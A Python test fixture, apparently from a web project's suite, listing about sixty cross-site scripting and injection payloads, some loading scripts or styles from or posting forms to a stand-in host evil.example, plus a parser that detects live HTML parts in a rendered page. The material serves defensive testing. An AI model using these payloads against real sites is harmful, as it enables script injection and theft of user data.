"""Hostile text for a page in a browser: each tries to be more than text. `tests/page/` shows it in every field."""

from __future__ import annotations

import re
from collections.abc import Mapping
from html.parser import HTMLParser

from tests.rig.corpus import CORPUS

HTML: Mapping[str, str] = {
    "a script": "<script>alert('owned')</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script cut in two": "<scr<script>ipt>alert('owned')</scr</script>ipt>",
    "a script that ends the title": "</title><script>alert('owned')</script>",
    "the end of a text field": "</textarea><script>alert('owned')</script>",
    "the end of a style": "</style><script>alert('owned')</script>",
    "the end of preformatted text": "</pre></bdi><img src=x onerror=alert('owned')>",
    "a comment that ends": "--><script>alert('owned')</script><!--",
    "CDATA": "<![CDATA[<script>alert('owned')</script>]]>",
    "an image": "<img src=x onerror=alert('owned')>",
    "an image without spaces": "<img/src=x/onerror=alert('owned')>",
    "an image that waits": "<img src=1 onload=alert('owned') loading=lazy>",
    "a picture with a script": "<svg><script>alert('owned')</script></svg>",
    "a picture that loads": "<svg/onload=alert('owned')>",
    "a picture with a link": "<svg><a xlink:href=javascript:alert('owned')><text>x</text></a></svg>",
    "a picture that moves": "<svg><animate onbegin=alert('owned') attributeName=x dur=1s>",
    "MathML": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('owned')>",
    "a frame": "<iframe src=javascript:alert('owned')></iframe>",
    "a frame with a document": "<iframe srcdoc='<script>parent.alert(`owned`)</script>'></iframe>",
    "an object": "<object data=javascript:alert('owned')></object>",
    "an embedded thing": "<embed src=javascript:alert('owned')>",
    "a base": "<base href=//evil.example/>",
    "a refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)//owned'>",
    "a style": "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "a link to a style": "<link rel=stylesheet href=//evil.example/x.css>",
    "a form": "<form action=//evil.example/><button>owned",
    "a button elsewhere": "<button formaction=javascript:alert('owned')>x",
    "a field that takes the focus": "<input autofocus onfocus=alert('owned')>",
    "details that open": "<details open ontoggle=alert('owned')>",
    "a video": "<video><source onerror=alert('owned')></video>",
    "a marquee": "<marquee onstart=alert('owned')>",
    "a body": "<body onload=alert('owned')>",
    "a dialog": "<dialog open onclose=alert('owned')>owned",
    "a template": "{{7*7}}{%for x in y%}{{owned}}{%endfor%}",
    "an expression": "${alert('owned')}`${alert('owned')}`",
    "the end of an attribute": '" onmouseover="alert(\'owned\')" x="',
    "the end of a single attribute": "' onfocus='alert(`owned`)' autofocus x='",
    "an attribute without quotes": "x onmouseover=alert('owned') y",
    "a javascript address": "javascript:alert('owned')",
    "a javascript address in disguise": "java\tscript:alert('owned')",
    "a javascript address with a line": "javascript://%0aalert('owned')//https://a.example/",
    "a data address": "data:text/html,<script>alert('owned')</script>",
    "a foreign address": "//evil.example/owned",
    "entities": "&lt;script&gt;alert('owned')&lt;/script&gt;",
    "entities in numbers": "&#60;script&#62;alert('owned')&#x3c;/script&#x3e;",
    "an unfinished entity": "&lt",
    "an event of the stream": '\n\nevent: parts\ndata: {"trouble":"<img src=x onerror=alert(\'owned\')>"}\n\n',
    "a query that goes on": "x&id=other&b64=b3RoZXI&sure=1#owned",
    "a parameter that looks like a token": "https://a.example/?token=owned&key=owned",
    "UTF-7": "+ADw-script+AD4-alert('owned')+ADw-/script+AD4-",
    "half a tag": "<img src=x onerror=alert('owned') ",
    "a null in a tag": "<scr\x00ipt>alert('owned')</script>",
    "a right-to-left override": "\u202egpj.exe<script>alert('owned')</script>",
    "a letter that is wide": "＜script＞alert('owned')＜/script＞",
    "an id of the page": "' id='main' name='sure' value='1",
    "a window name": "<a id=body name=cookie href=x>owned</a>",
    "a proto": "__proto__",
    "nothing but spaces": "   ",
    "a long line": "A" * 900 + "<b>owned",
}
"""Each by its name; all of them fit into an id."""

EVERYTHING: Mapping[str, str | bytes] = {**CORPUS, **HTML}

_TAGS = """
html head meta title link script body a header span form label input button kbd nav main p div section h1 h2 h3 ul li
b small svg rect polyline table thead tbody tr th td bdi dl dt dd pre footer strong dialog progress code figure
figcaption textarea fieldset legend path g line text circle polygon select option
"""
TAGS = frozenset(_TAGS.split())
"""All tags that the page has."""
_ADDRESSES = ("href", "src", "action", "formaction", "data-live", "xlink:href")
_STRAY = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


class Inert(HTMLParser):
    """Reads a page as a browser does, and notes whatever could be more than text."""

    def __init__(self, html: str, typed: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        stray = None if typed else _STRAY.search(html)
        if stray:
            self.found.append(f"a character that is not seen: {html[max(0, stray.start() - 60) : stray.end()]!r}")
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        if tag == "script" and not (given.get("src") or "").split("?")[0].endswith("/static/page.js"):
            self.found.append(f"a script: {given}")
        for name, value in attrs:
            if (
                name.startswith("on")
                or name in ("style", "srcdoc", "autofocus")
                or not re.fullmatch("[a-z0-9:-]+", name, re.I)
            ):
                self.found.append(f"<{tag} {name}>")
            if name in _ADDRESSES and not re.match(r"(?:/(?!/)|#|\?|$)", value or ""):
                self.found.append(f"{tag} leads to {value!r}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"a comment: {data[:60]!r}")


def live_parts(html: str, *, typed: bool = False) -> list[str]:
    """Say what in a page is not inert; nothing is how it has to be. What users have `typed` may hold any character."""
    return Inert(html, typed).found
